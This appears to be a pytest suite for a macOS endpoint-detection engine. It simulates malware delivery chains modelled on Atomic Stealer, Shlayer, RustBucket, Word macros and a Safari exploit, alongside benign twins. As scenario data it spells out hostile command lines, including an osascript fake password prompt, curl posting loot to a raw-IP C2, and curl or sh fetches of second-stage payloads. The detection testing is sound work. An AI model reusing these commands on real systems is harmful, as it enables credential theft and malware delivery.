"""AN1316 scenarios, each a positive and a negative twin, modelled on public reporting of real macOS campaigns and
benign software. Scenario builders are module-level functions so the OCSF and ordering tests reuse them."""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest
from builders import (
    ARCHIVE_UTILITY,
    BASH,
    CHROME,
    CHROME_HELPER,
    CURL,
    KEKA,
    KEYSTONE_AGENT,
    MS_AUTOUPDATE,
    OSASCRIPT,
    PREVIEW,
    PYTHON3,
    SAFARI,
    SH,
    SHARINGD,
    TERMINAL,
    THE_UNARCHIVER,
    USER,
    WEBKIT_NETWORKING,
    WEBKIT_WEBCONTENT,
    WORD,
    ZSH,
    Binary,
    Image,
    Scenario,
    adhoc,
    apple,
    at,
    developer,
    link,
    long_running,
    only,
    run,
    stage,
)

from chainwatch.engine import Engine
from chainwatch.events import AppAction, FileAction, GatekeeperAction
from chainwatch.findings.model import Confidence, Finding, Severity, Strength
from chainwatch.policy import load_policy
from chainwatch.state.memory import InMemoryStore

TMPDIR = "/private/var/folders/x4/z2j7l9xj0m5c6k8_5r0x9w6h0000gn/T"
C2_IP = "185.106.93.154"


def _strengths(finding: Finding) -> dict[tuple[int, int], Strength]:
    return {(int(lk.from_stage), int(lk.to_stage)): lk.strength for lk in finding.links}


# -- 1. browser download -> Gatekeeper open -> app runs osascript/curl (route b) ---------------------------------


def amos_dmg_from_chrome(*, downloaded_by_browser: bool = True) -> Scenario:
    """A fake CleanMyMac DMG from Chrome, mounted, right-click opened; the app prompts for the password with
    osascript and posts the loot with curl (Atomic/AMOS). Twin: the DMG arrived by AirDrop (sharingd)."""
    s = Scenario(origin="amos")
    chrome = long_running(CHROME, 612, at(-3 * 3600))
    s.app(at(0), AppAction.LAUNCH, bundle_id="com.google.Chrome", pid=612)
    dmg = f"{USER}/Downloads/CleanMyMac.dmg"
    writer = chrome if downloaded_by_browser else long_running(SHARINGD, 388, at(-8 * 3600))
    agent = "Google Chrome" if downloaded_by_browser else "sharingd"
    if downloaded_by_browser:
        s.write(at(30), chrome, f"{dmg}.crdownload")
        s.write(at(40), chrome, dmg, FileAction.RENAME, source_path=f"{dmg}.crdownload")
    else:
        s.write(at(40), writer, dmg)
    s.quarantine(at(40), writer, dmg, f"0083;6894a7b0;{agent};1F0C5D52-8E4B-4C1E-9F1A-3B6F0B8E2A11")
    bundle = "/Volumes/CleanMyMac/CleanMyMac.app"
    s.gatekeeper(at(90), GatekeeperAction.PROMPT, path=bundle)
    s.gatekeeper(at(95), GatekeeperAction.USER_OVERRIDE, path=f"{bundle}/Contents/MacOS/CleanMyMac")
    app = s.launch(at(100), 2718, Binary(f"{bundle}/Contents/MacOS/CleanMyMac", adhoc("CleanMyMac-55554944a1b2")))
    osa = s.spawn(at(101), app, 2720, OSASCRIPT, [
        "osascript", "-e", 'display dialog "macOS needs to access System Settings" default answer "" '
        'with title "System Preferences" with hidden answer'])
    s.exit(at(110), osa)
    curl = s.spawn(at(112), app, 2731, CURL, ["curl", "-X", "POST", "-F", "file=@/tmp/out.zip",
                                              f"http://{C2_IP}/joinsystem"])
    s.connect(at(113), curl, C2_IP, 80)
    s.exit(at(115), curl)
    return s


def shlayer_zip_from_safari(*, body: str = "macho", downloaded_by_browser: bool = True) -> Scenario:
    """Safari auto-extracts a zip into ~/Downloads; the app is opened, App Translocation runs it from a random
    folder, and it fetches a second stage with curl. ``body="script"`` is Shlayer's bash-script app bundle."""
    s = Scenario(origin="shlayer")
    s.launch(at(0), 530, SAFARI)
    s.app(at(0.2), AppAction.LAUNCH, bundle_id="com.apple.Safari", pid=530)
    networking = long_running(WEBKIT_NETWORKING, 611, at(-1), responsible_pid=530)
    landed = f"{USER}/Downloads/Player.app"
    writer = networking if downloaded_by_browser else long_running(SHARINGD, 388, at(-8 * 3600))
    s.write(at(20), writer, f"{USER}/Downloads/Player.zip")
    s.write(at(22), writer, f"{landed}/Contents/Info.plist")
    s.write(at(22.5), writer, f"{landed}/Contents/MacOS/Player")
    s.quarantine(at(22.5), writer, landed, "0083;6894a7c4;Safari;0E8B6C1A-5D4F-4B2E-8A3C-7F9D1E2B3C4D"
                 if downloaded_by_browser else "0083;6894a7c4;sharingd;0E8B6C1A-5D4F-4B2E-8A3C-7F9D1E2B3C4D")
    translocated = f"{TMPDIR}/AppTranslocation/B9651238-6F5A-4C8B-9A2D-1E3F4A5B6C7D/d/Player.app"
    s.gatekeeper(at(60), GatekeeperAction.TRANSLOCATION, path=translocated)
    s.gatekeeper(at(61), GatekeeperAction.PROMPT)  # CoreServicesUIAgent code-evaluation prompt: no path
    main = f"{translocated}/Contents/MacOS/Player"
    if body == "script":
        app = s.launch(at(70), 3101, BASH, ["/bin/bash", main], script_path=main)
    else:
        app = s.launch(at(70), 3101, Binary(main, adhoc("Player-55554944b7c1")))
    curl = s.spawn(at(72), app, 3102, CURL, ["curl", "-fsL", "-o", f"{TMPDIR}/p.zip",
                                             "https://d3l2sd8u5v1n1u.cloudfront.net/p.zip"])
    s.connect(at(73), curl, "13.33.88.120", 443, hostname="d3l2sd8u5v1n1u.cloudfront.net")
    return s


# Jamf Threat Labs / SentinelOne reporting on Atomic Stealer (AMOS, 2023-2024): fake app DMG, right-click Open,
# osascript password dialog, curl POST to a raw-IP C2.
def test_chain_amos_dmg_from_chrome_is_critical_route_b() -> None:
    finding = only(run(amos_dmg_from_chrome().events))
    assert finding.stage_numbers == (1, 2, 3, 4)
    assert finding.route == "quarantined_app"
    assert finding.is_alert and finding.suppressed_by is None
    assert finding.severity is Severity.CRITICAL
    assert any("credential prompt" in r for r in finding.reasons)
    assert any("raw IP" in r for r in finding.reasons)
    assert set(_strengths(finding).values()) == {Strength.STRONG}
    assert "volume /Volumes/CleanMyMac" in link(finding, 2, 3).reason
    assert stage(finding, 2).file_path == f"{USER}/Downloads/CleanMyMac.dmg"
    assert stage(finding, 3).process is not None and stage(finding, 3).process.pid == 2718
    assert stage(finding, 4).dst_ip == C2_IP
    assert [e.attribution for e in finding.egress] == ["entity"]
    assert finding.egress[0].process.executable == "/usr/bin/curl"
    assert finding.confidence is Confidence.HIGH
    assert "T1553.001" in finding.techniques and "T1059.002" in finding.techniques
    assert any("agent=Google Chrome" in q for q in finding.quarantine)
    assert any("prompt" in g for g in finding.gatekeeper)


# Twin: the same DMG delivered by AirDrop (sharingd is not a policy app), opened from the same volume. No policy
# app downloaded it, so stages 1 and 2 are missing; the behavioural floor still alerts: an app opened after a
# Gatekeeper override that prompts for the password and posts data out is a stealer however it arrived.
def test_chain_amos_dmg_from_airdrop_alerts_by_behavioural_floor() -> None:
    finding = only(run(amos_dmg_from_chrome(downloaded_by_browser=False).events))
    assert finding.stage_numbers == (3, 4)
    assert finding.is_alert and finding.severity is Severity.CRITICAL
    assert finding.app_key.startswith("?/")
    assert any(r.startswith("behavioural floor") for r in finding.reasons)
    assert any("download of this app was seen" in n for n in finding.notes)


# Twin of the twin: the same AirDrop'd app that shows no stealer behaviour (it only fetches an update) is nothing.
def test_chain_airdrop_app_without_behaviour_has_no_finding() -> None:
    s = amos_dmg_from_chrome(downloaded_by_browser=False)
    quiet = [e for e in s.events if getattr(getattr(e, "target", None), "pid", None) not in (2720, 2731)]
    assert run(quiet) == []


# Objective-See "All Your Macs Are Belong To Us" and Jamf on Shlayer (2021): a zip Safari auto-extracts, the app
# run from AppTranslocation fetches a second stage with curl; Shlayer's app bodies are bash scripts.
@pytest.mark.parametrize("body", ["macho", "script"])
def test_chain_safari_translocated_app_is_alert(body: str) -> None:
    finding = only(run(shlayer_zip_from_safari(body=body).events))
    assert finding.stage_numbers == (1, 2, 3, 4)
    assert finding.route == "quarantined_app" and finding.is_alert
    assert finding.app_name == "Safari" and finding.app_key == "Safari/530"
    assert "translocated copy of the downloaded Player.app" in link(finding, 2, 3).reason
    # The translocation match alone is weak; the Gatekeeper prompt and the quarantine agent make it strong.
    assert link(finding, 2, 3).strength is Strength.STRONG
    # Written by com.apple.WebKit.Networking, which acts for Safari (its responsible process).
    assert link(finding, 1, 2).strength is Strength.STRONG
    assert stage(finding, 4).hostname == "d3l2sd8u5v1n1u.cloudfront.net"
    assert finding.severity is (Severity.HIGH if body == "script" else Severity.CRITICAL)  # ad-hoc Mach-O


# Twin: the same app arrived some other way (AirDrop): no policy app downloaded it.
@pytest.mark.parametrize("body", ["macho", "script"])
def test_chain_translocated_app_not_downloaded_by_browser_has_no_finding(body: str) -> None:
    assert run(shlayer_zip_from_safari(body=body, downloaded_by_browser=False).events) == []


# Twin: an app installed from elsewhere (a vendor pkg into /Applications) opened while Chrome downloads stuff.
def test_chain_app_opened_from_applications_has_no_finding() -> None:
    s = Scenario()
    chrome = long_running(CHROME, 612, at(-3 * 3600))
    s.app(at(0), AppAction.LAUNCH, bundle_id="com.google.Chrome", pid=612)
    s.write(at(40), chrome, f"{USER}/Downloads/CleanMyMac.dmg")
    app = s.launch(at(100), 2718, Binary("/Applications/CleanMyMac.app/Contents/MacOS/CleanMyMac",
                                         developer("com.macpaw.CleanMyMac4", "S8EX82NJP6")))
    s.connect(at(101), app, "52.85.12.1", 443, hostname="api.macpaw.com")
    assert run(s.events) == []


# -- 2. Office macro -> sh -c -> python / curl ---------------------------------------------------------------------

LAUNCH_AGENT = f"{USER}/Library/LaunchAgents/~$com.apple.update.plist"
PAYLOAD = f"{USER}/Library/Containers/com.microsoft.Word/Data/~$helper.py"


def word_macro(*, spawn: bool = True, word_running: bool = False, egress_ip: str = "104.245.240.172",
               egress_by: str = "entity", curl_pid: int = 4242) -> tuple[Scenario, dict[str, Image]]:
    """A macro document opens Word; the macro drops ~$-prefixed files (allowed anywhere by Word's sandbox) and
    runs ``sh -c`` -> python3 and curl. ``word_running``: Word was already open (its exec is outside the window)."""
    s = Scenario(origin="word")
    if word_running:
        word = long_running(WORD, 701, at(-2 * 3600))
    else:
        word = s.launch(at(0), 701, WORD)
        s.app(at(0.3), AppAction.LAUNCH, bundle_id="com.microsoft.Word", pid=701)
    s.write(at(15), word, f"{USER}/Library/Containers/com.microsoft.Word/Data/Library/Preferences/AutoRecovery/"
                          "~$Invoice_0425.docm")
    images = {"word": word}
    if spawn:
        s.write(at(20), word, LAUNCH_AGENT)
        s.write(at(20.5), word, PAYLOAD)
        sh = s.spawn(at(21), word, 905, SH, ["sh", "-c", f"python3 '{PAYLOAD}' && curl -s http://{egress_ip}/c"])
        py = s.spawn(at(22), sh, 906, PYTHON3, ["python3", PAYLOAD])
        s.exit(at(30), py)
        curl = s.spawn(at(31), sh, curl_pid, CURL, ["curl", "-s", f"http://{egress_ip}/c"])
        if egress_ip:
            s.connect(at(32), curl, egress_ip, 80, by=egress_by)
        s.exit(at(33), curl)
        images |= {"sh": sh, "python": py, "curl": curl}
    return s, images


# Objective-See "New Attack, Old Tricks" (2017, Word macro -> python EmPyre) and xpn "Escaping the Microsoft Office
# Sandbox" (2018): macros run shell commands and drop ~$-prefixed files, which Word's sandbox lets them write.
def test_chain_word_macro_sh_python_curl_is_alert() -> None:
    s, images = word_macro()
    finding = only(run(s.events))
    assert finding.stage_numbers == (1, 2, 3, 4)
    assert finding.route == "interpreter" and finding.is_alert
    assert finding.severity is Severity.CRITICAL  # raw-IP destination
    assert stage(finding, 1).method == "unified log"
    assert stage(finding, 2).file_path == PAYLOAD  # the file sh names, not the newer or older unrelated ones
    assert link(finding, 2, 3).strength is Strength.STRONG and "names it in its arguments" in link(finding, 2, 3).reason
    assert stage(finding, 3).process is not None and stage(finding, 3).process.entity_id == images["sh"].entity_id
    assert finding.egress[0].process.entity_id == images["curl"].entity_id
    assert {n.process.executable for n in finding.tree} >= {WORD.path, SH.path, PYTHON3.path, CURL.path}
    assert {"T1059.004", "T1059.006", "T1105"} <= set(finding.techniques)
    assert PAYLOAD in finding.files


# Same campaign, but Word was already open (a second document): its exec is hours old, so the app is known from
# the fork's parent. The chain must still be Word's pid 701 (its file writes count), not the forked copy's pid.
def test_chain_word_already_running_keeps_app_pid_and_file() -> None:
    s, _ = word_macro(word_running=True)
    finding = only(run(s.events))
    assert finding.app_key == "Microsoft Word/701"
    assert finding.stage_numbers == (2, 3, 4)  # no launch in the window: a non-alert story
    assert not finding.is_alert and finding.severity is Severity.LOW
    assert stage(finding, 2).file_path == PAYLOAD
    assert finding.tree[0].process.pid == 701 and finding.tree[0].seen == "lineage"


# Twin: Word opens the same document, autosaves, and spawns nothing.
def test_chain_word_without_children_has_no_finding() -> None:
    s, images = word_macro(spawn=False)
    s.connect(at(40), images["word"], "52.109.8.19", 443, hostname="nexusrules.officeapps.live.com")
    assert run(s.events) == []


# -- 3. Preview / archivers -> script ------------------------------------------------------------------------------


def rustbucket_applet(*, opened: bool = True) -> Scenario:
    """Archive Utility extracts "Internal PDF Viewer.app" (an AppleScript applet); opened, it runs
    ``do shell script`` -> curl for the second stage. Twin: extracted, never opened."""
    s = Scenario(origin="rustbucket")
    archive = s.launch(at(0), 1404, ARCHIVE_UTILITY)
    s.app(at(0.1), AppAction.LAUNCH, bundle_id="com.apple.archiveutility", pid=1404)
    bundle = f"{USER}/Downloads/Internal PDF Viewer.app"
    s.write(at(2), archive, f"{bundle}/Contents/Info.plist")
    s.write(at(2.1), archive, f"{bundle}/Contents/MacOS/applet")
    s.write(at(2.2), archive, f"{bundle}/Contents/Resources/Scripts/main.scpt")
    s.exit(at(3), archive)
    if opened:
        applet = s.launch(at(40), 1510, Binary(f"{bundle}/Contents/MacOS/applet",
                                               adhoc("com.apple.ScriptEditor.id.Internal-PDF-Viewer")))
        sh = s.spawn(at(45), applet, 1511, SH, ["sh", "-c", "curl -s -o /Users/Shared/.pd "
                                                "https://cloud.dnx.capital/pdf/download"])
        curl = s.spawn(at(45.1), sh, 1512, CURL, ["curl", "-s", "-o", "/Users/Shared/.pd",
                                                  "https://cloud.dnx.capital/pdf/download"])
        s.connect(at(46), curl, "104.168.214.151", 443, hostname="cloud.dnx.capital")
    return s


# Jamf Threat Labs "RustBucket" (2023): stage 1 is an AppleScript applet in a zip that fetches stage 2 with curl.
def test_chain_archive_utility_extracted_applet_is_alert() -> None:
    finding = only(run(rustbucket_applet().events))
    assert finding.stage_numbers == (1, 2, 3, 4)
    assert finding.app_name == "Archive Utility" and finding.route == "quarantined_app"
    assert link(finding, 2, 3).reason == "the launched bundle is the downloaded path"
    assert link(finding, 2, 3).strength is Strength.STRONG
    assert finding.egress[0].hostname == "cloud.dnx.capital"
    assert finding.is_alert and finding.severity is Severity.CRITICAL  # ad-hoc applet


# Twin: the archive is extracted but the applet is never opened.
def test_chain_archive_utility_extract_only_has_no_finding() -> None:
    assert run(rustbucket_applet(opened=False).events) == []


def archiver_runs_script(app: Binary, bundle_id: str, *, from_app: bool = True) -> Scenario:
    """The archiver (or viewer) writes a script and a shell runs it under the app. Twin: the user runs the
    extracted script from Terminal later."""
    s = Scenario(origin="archiver")
    proc = s.launch(at(0), 1404, app)
    s.app(at(0.1), AppAction.LAUNCH, bundle_id=bundle_id, pid=1404)
    script = f"{USER}/Downloads/Invoice_0425/Invoice.command"
    s.write(at(3), proc, script)
    if from_app:
        parent = proc
    else:
        terminal = long_running(TERMINAL, 455, at(-3600))
        parent = s.spawn(at(50), terminal, 456, ZSH, ["-zsh"])
    sh = s.spawn(at(60), parent, 1601, SH, ["/bin/sh", script], script_path=script)
    curl = s.spawn(at(61), sh, 1602, CURL, ["curl", "-sL", "https://transfer.sh/get/x/loader"])
    s.connect(at(62), curl, "144.76.136.153", 443, hostname="transfer.sh")
    return s


_VIEWERS = [(PREVIEW, "com.apple.Preview"), (ARCHIVE_UTILITY, "com.apple.archiveutility"),
            (THE_UNARCHIVER, "cx.c3.theunarchiver"), (KEKA, "com.aone.keka")]


# MITRE ATT&CK AN1316 (T1204.002, macOS): Preview and archive utilities writing a script a child then runs.
@pytest.mark.parametrize(("app", "bundle_id"), _VIEWERS)
def test_chain_viewer_or_archiver_runs_extracted_script_is_alert(app: Binary, bundle_id: str) -> None:
    finding = only(run(archiver_runs_script(app, bundle_id).events))
    assert finding.stage_numbers == (1, 2, 3, 4) and finding.is_alert
    assert finding.severity is Severity.HIGH  # strong links, signed, hostname destination
    assert link(finding, 2, 3).reason == "sh runs it as its script"
    assert set(_strengths(finding).values()) == {Strength.STRONG}


# Twin: the extracted script is run by the user from Terminal (not a policy app).
@pytest.mark.parametrize(("app", "bundle_id"), _VIEWERS)
def test_chain_extracted_script_run_from_terminal_has_no_finding(app: Binary, bundle_id: str) -> None:
    assert run(archiver_runs_script(app, bundle_id, from_app=False).events) == []


# -- 4. browser crash (exploit) -> shell -> curl --------------------------------------------------------------------


def safari_exploit(*, spawn: bool = True) -> Scenario:
    """An exploited WebContent process drops a script and runs it with sh, which fetches the implant with curl;
    Safari then crashes (ReportCrash logs it just after). Twin: Safari crashes and nothing is spawned."""
    s = Scenario(origin="exploit")
    long_running(SAFARI, 530, at(-5 * 3600))
    webcontent = long_running(WEBKIT_WEBCONTENT, 640, at(-600), responsible_pid=530)
    dropped = f"{TMPDIR}/com.apple.WebKit.WebContent/update.sh"
    if spawn:
        s.write(at(0), webcontent, dropped)
        sh = s.spawn(at(1), webcontent, 2201, SH, ["/bin/sh", dropped], script_path=dropped)
        curl = s.spawn(at(2), sh, 2202, CURL, ["curl", "-so", "/tmp/.UpdateHelper", f"http://{C2_IP}/mac"])
        s.connect(at(2.5), curl, C2_IP, 80)
    s.app(at(6), AppAction.CRASH, app_name="Safari", pid=530)
    # Someone else's curl on the same host at the same time (a developer in Terminal): never part of the chain.
    terminal = long_running(TERMINAL, 455, at(-3600))
    zsh = s.spawn(at(3), terminal, 456, ZSH, ["-zsh"])
    other = s.spawn(at(4), zsh, 457, CURL, ["curl", "https://api.github.com"])
    s.connect(at(4.5), other, "140.82.112.6", 443, hostname="api.github.com")
    return s


# ESET "DazzleSpy" (2022) and Google TAG "Analyzing a watering hole campaign using macOS exploits" (2021):
# a WebKit exploit in Safari, then a shell and a download of the implant.
def test_chain_safari_exploit_crash_then_shell_curl_is_alert() -> None:
    finding = only(run(safari_exploit().events))
    assert finding.stage_numbers == (1, 2, 3, 4)
    assert finding.app_key == "Safari/530"  # the helper's responsible process, inherited through its fork
    assert "crash" in stage(finding, 1).summary and stage(finding, 1).method == "unified log"
    assert link(finding, 1, 2).strength is Strength.STRONG
    assert stage(finding, 3).process is not None and stage(finding, 3).process.executable == SH.path
    assert [e.dst_ip for e in finding.egress] == [C2_IP]
    assert finding.is_alert and finding.severity is Severity.CRITICAL


# Twin: Safari crashes, nothing is spawned (the Terminal curl is unrelated).
def test_chain_safari_crash_without_children_has_no_finding() -> None:
    assert run(safari_exploit(spawn=False).events) == []


# -- 5. renamed curl; a file named osascript that is not Apple's -----------------------------------------------------

RENAMED_CURL = CURL.at_path(f"{USER}/Library/Containers/com.microsoft.Word/Data/Library/Caches/wupd")
FAKE_OSASCRIPT = Binary("/tmp/osascript", adhoc("osascript-555549440c6b"))


def word_spawns(binary: Binary) -> Scenario:
    """Word (macro) copies a binary into place and runs it directly; it connects out."""
    s = Scenario(origin="renamed")
    word = s.launch(at(0), 701, WORD)
    s.app(at(0.3), AppAction.LAUNCH, bundle_id="com.microsoft.Word", pid=701)
    s.write(at(10), word, binary.path)
    child = s.spawn(at(12), word, 1701, binary, [binary.path.rsplit("/", 1)[-1], "-s", f"http://{C2_IP}/a"])
    s.connect(at(13), child, C2_IP, 80)
    return s


# MITRE ATT&CK T1036.003 (Rename System Utilities): a copy of Apple's curl under another name is still curl.
def test_chain_renamed_curl_in_library_is_interpreter_stage() -> None:
    finding = only(run(word_spawns(RENAMED_CURL).events))
    assert finding.stage_numbers == (1, 2, 3, 4) and finding.is_alert
    third = stage(finding, 3)
    assert third.process is not None and third.process.executable == RENAMED_CURL.path
    assert finding.tree[-1].role == "interpreter"
    assert link(finding, 2, 3).reason == "wupd is the landed file"
    assert "T1105" in finding.techniques


# Twin: a file merely named osascript in /tmp, ad-hoc signed, is not Apple's osascript: no interpreter stage.
def test_chain_fake_osascript_in_tmp_is_not_interpreter() -> None:
    assert run(word_spawns(FAKE_OSASCRIPT).events) == []


# -- 6. browser-helper egress that is not a chain --------------------------------------------------------------------


def browsing(*, with_chain: bool = False) -> Scenario:
    """Safari and Chrome browse and download; their helpers connect out. Positive twin: Chrome also spawns
    ``sh -c curl`` whose own connection is the chain's egress."""
    s = Scenario(origin="browsing")
    s.launch(at(0), 530, SAFARI)
    s.app(at(0.1), AppAction.LAUNCH, bundle_id="com.apple.Safari", pid=530)
    networking = s.launch(at(1), 611, WEBKIT_NETWORKING, responsible_pid=530)  # an XPC service of Safari's
    s.connect(at(2), networking, "17.253.144.10", 443, hostname="www.apple.com")
    s.connect(at(3), networking, "151.101.1.69", 443, hostname="www.reddit.com")
    s.write(at(5), networking, f"{USER}/Downloads/report.pdf")
    chrome = s.launch(at(10), 612, CHROME)
    s.app(at(10.1), AppAction.LAUNCH, bundle_id="com.google.Chrome", pid=612)
    helper = s.spawn(at(11), chrome, 613, CHROME_HELPER, ["Google Chrome Helper", "--type=utility",
                                                          "--utility-sub-type=network.mojom.NetworkService"])
    s.connect(at(12), helper, "142.250.74.110", 443, hostname="www.google.com")
    s.connect(at(12.5), chrome, "142.250.74.110", 443, hostname="clients2.google.com")
    s.write(at(20), chrome, f"{USER}/Downloads/setup.sh")
    if with_chain:
        sh = s.spawn(at(30), chrome, 1801, SH, ["sh", "-c", f"curl -s {USER}/Downloads/setup.sh"])
        curl = s.spawn(at(31), sh, 1802, CURL, ["curl", "-s", "https://paste.ee/r/x1"])
        s.connect(at(32), curl, "172.67.163.8", 443, hostname="paste.ee")
    return s


# WebKit's process model (com.apple.WebKit.Networking loads for Safari) and Chromium's multi-process
# architecture (a network-service helper): helper traffic is browsing, not a child's egress.
def test_chain_browser_helper_egress_has_no_finding() -> None:
    engine = Engine(load_policy(), InMemoryStore())
    assert run(browsing().events, engine=engine) == []
    assert engine.state_for("mac-01").network == []  # the apps' and helpers' own traffic is never kept


# Twin: the same browsing plus a Chrome-spawned curl: only the curl's connection is the chain's egress.
def test_chain_browser_with_spawned_curl_takes_only_child_egress() -> None:
    finding = only(run(browsing(with_chain=True).events))
    assert finding.stage_numbers == (1, 2, 3, 4) and finding.app_name == "Google Chrome"
    assert [e.hostname for e in finding.egress] == ["paste.ee"]


# -- 7. Terminal-started curl | bash ---------------------------------------------------------------------------------


def curl_pipe_bash(parent_binary: Binary) -> Scenario:
    """The Homebrew one-liner ``/bin/bash -c "$(curl -fsSL .../install.sh)"`` run under ``parent_binary``."""
    s = Scenario(origin="curlbash")
    parent = s.launch(at(0), 455, parent_binary)
    if parent_binary is WORD:
        s.app(at(0.1), AppAction.LAUNCH, bundle_id="com.microsoft.Word", pid=455)
        s.write(at(1), parent, f"{USER}/Library/Containers/com.microsoft.Word/Data/~$install.sh")
    shell = s.spawn(at(5), parent, 456, ZSH, ["-zsh"]) if parent_binary is TERMINAL else parent
    bash = s.spawn(at(10), shell, 2001, BASH, [
        "/bin/bash", "-c", '"$(curl -fsSL https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh)"'])
    curl = s.spawn(at(10.1), bash, 2002, CURL,
                   ["curl", "-fsSL", "https://raw.githubusercontent.com/Homebrew/install/HEAD/install.sh"])
    s.connect(at(10.5), curl, "185.199.108.133", 443, hostname="raw.githubusercontent.com")
    return s


# Homebrew's documented install command (brew.sh), typed in Terminal: not AN1316 (Terminal is not a policy app).
def test_chain_terminal_curl_pipe_bash_has_no_finding() -> None:
    assert run(curl_pipe_bash(TERMINAL).events) == []


# Twin: the same command line run by a Word macro is the chain.
def test_chain_word_curl_pipe_bash_is_alert() -> None:
    finding = only(run(curl_pipe_bash(WORD).events))
    assert finding.stage_numbers == (1, 2, 3, 4) and finding.is_alert
    assert stage(finding, 3).process is not None and stage(finding, 3).process.executable == BASH.path


# -- 8. pid reuse ----------------------------------------------------------------------------------------------------


def _benign_reuser(s: Scenario, pid: int, binary: Binary, start: float) -> Image:
    """A developer's process from Terminal that gets ``pid`` after the malicious process exited."""
    terminal = long_running(TERMINAL, 455, at(-3600))
    zsh = s.spawn(at(start - 1), terminal, 4100, ZSH, ["-zsh"])
    return s.spawn(at(start), zsh, pid, binary, [binary.path.rsplit("/", 1)[-1], "https://github.com"])


# Same Word macro chain; a benign curl later gets the malicious curl's pid (pid-only network records, as from
# unified-log or Jamf Protect network events): its egress must never join the chain.
@pytest.mark.parametrize("benign", [CURL, Binary("/usr/bin/git", apple("com.apple.git"))])
def test_chain_pid_reuse_benign_egress_not_attached(benign: Binary) -> None:
    s, _ = word_macro(egress_ip="")
    reuser = _benign_reuser(s, 4242, benign, start=60)
    s.connect(at(61), reuser, "140.82.112.4", 443, hostname="github.com", by="pid")
    finding = only(run(s.events))
    assert finding.egress == ()
    assert finding.stage_numbers == (1, 2, 3)
    assert not finding.is_alert and finding.severity is Severity.LOW


# Twin: the malicious curl's own pid-only egress attaches (pid within exec..exit), the reuser's does not.
def test_chain_pid_reuse_malicious_egress_attached_by_pid_lifetime() -> None:
    s, images = word_macro(egress_by="pid")
    reuser = _benign_reuser(s, 4242, CURL, start=60)
    s.connect(at(61), reuser, "140.82.112.4", 443, hostname="github.com", by="pid")
    finding = only(run(s.events))
    assert [(e.dst_ip, e.attribution) for e in finding.egress] == [("104.245.240.172", "pid_lifetime")]
    assert finding.egress[0].process.entity_id == images["curl"].entity_id
    assert link(finding, 3, 4).strength is Strength.STRONG
    assert finding.egress[0].confidence is Confidence.MEDIUM


# -- 9. loopback-only egress -----------------------------------------------------------------------------------------


# Local proxies and dev servers (127.0.0.1, ::1) and the link-local metadata range are not egress.
@pytest.mark.parametrize("address", ["127.0.0.1", "::1", "169.254.169.254", "::ffff:127.0.0.1"])
def test_chain_loopback_only_egress_has_no_stage4(address: str) -> None:
    s, _ = word_macro(egress_ip=address)
    finding = only(run(s.events))
    assert finding.stage_numbers == (1, 2, 3) and finding.egress == ()
    assert not finding.is_alert


# Twin: an internal (RFC 1918) destination is egress, with confidence one step lower.
def test_chain_internal_egress_is_stage4_with_lower_confidence() -> None:
    s, _ = word_macro(egress_ip="10.20.30.40")
    finding = only(run(s.events))
    assert finding.stage_numbers == (1, 2, 3, 4)
    assert finding.egress[0].destination_class == "internal" and finding.egress[0].confidence is Confidence.MEDIUM


# -- 10. approved updaters --------------------------------------------------------------------------------------------


def updater(app: Binary, bundle_id: str, agent: Binary) -> Scenario:
    """The app starts its updater, which runs an Apple shell that fetches the update with curl."""
    s = Scenario(origin="updater")
    proc = s.launch(at(0), 612, app)
    s.app(at(0.5), AppAction.LAUNCH, bundle_id=bundle_id, pid=612)
    s.write(at(5), proc, f"{USER}/Library/Application Support/{bundle_id}/state.json")
    update = s.spawn(at(10), proc, 1301, agent, [agent.path.rsplit("/", 1)[-1], "-runMode", "ifneeded"])
    bash = s.spawn(at(12), update, 1302, BASH, ["/bin/bash", f"{USER}/Library/Caches/{bundle_id}/ksinstall",
                                                "--install"])
    curl = s.spawn(at(13), bash, 1303, CURL, ["curl", "-fsSL", "https://dl.google.com/release2/update.dmg"])
    s.connect(at(14), curl, "142.250.74.110", 443, hostname="dl.google.com")
    return s


_UPDATERS = [(CHROME, "com.google.Chrome", KEYSTONE_AGENT, "google-software-update"),
             (WORD, "com.microsoft.Word", MS_AUTOUPDATE, "microsoft-autoupdate")]


# Google Keystone (GoogleSoftwareUpdateAgent, team EQHXZ8M8AV) and Microsoft AutoUpdate (team UBF8T346G9) run
# shells and curl on their own: kept as a suppressed, non-alert finding naming the rule.
@pytest.mark.parametrize(("app", "bundle_id", "agent", "rule"), _UPDATERS)
def test_chain_approved_updater_is_suppressed_with_rule(app: Binary, bundle_id: str, agent: Binary,
                                                         rule: str) -> None:
    finding = only(run(updater(app, bundle_id, agent).events))
    assert finding.stage_numbers == (1, 2, 3, 4)
    assert finding.suppressed_by == rule and finding.suppression_reason
    assert not finding.is_alert
    assert any(rule in r for r in finding.reasons)


# Twin (MITRE ATT&CK T1036.005, match a legitimate name): the same names, ad-hoc signed, are not suppressed.
@pytest.mark.parametrize(("app", "bundle_id", "agent", "rule"), _UPDATERS)
def test_chain_lookalike_updater_is_alert(app: Binary, bundle_id: str, agent: Binary, rule: str) -> None:
    fake = Binary(agent.path, adhoc(agent.signature.signing_id if agent.signature and agent.signature.signing_id
                                    else "x"))
    finding = only(run(updater(app, bundle_id, fake).events))
    assert finding.suppressed_by is None and finding.is_alert
    assert finding.severity is Severity.CRITICAL  # ad-hoc process in the chain
    assert rule not in " ".join(finding.reasons)


# -- determinism -----------------------------------------------------------------------------------------------------

SCENARIOS: dict[str, Callable[[], Scenario]] = {
    "amos": amos_dmg_from_chrome,
    "amos-airdrop": lambda: amos_dmg_from_chrome(downloaded_by_browser=False),
    "shlayer": shlayer_zip_from_safari,
    "shlayer-script": lambda: shlayer_zip_from_safari(body="script"),
    "word": lambda: word_macro()[0],
    "word-running": lambda: word_macro(word_running=True)[0],
    "word-loopback": lambda: word_macro(egress_ip="127.0.0.1")[0],
    "rustbucket": rustbucket_applet,
    "keka": lambda: archiver_runs_script(KEKA, "com.aone.keka"),
    "exploit": safari_exploit,
    "renamed-curl": lambda: word_spawns(RENAMED_CURL),
    "browsing": lambda: browsing(with_chain=True),
    "word-curl-bash": lambda: curl_pipe_bash(WORD),
    "keystone": lambda: updater(CHROME, "com.google.Chrome", KEYSTONE_AGENT),
    "mau": lambda: updater(WORD, "com.microsoft.Word", MS_AUTOUPDATE),
}


@pytest.mark.parametrize("name", sorted(SCENARIOS))
def test_chain_same_events_twice_same_finding_ids(name: str) -> None:
    first = run(SCENARIOS[name]().events)
    second = run(SCENARIOS[name]().events)
    assert [f.finding_id for f in first] == [f.finding_id for f in second]
    assert first == second


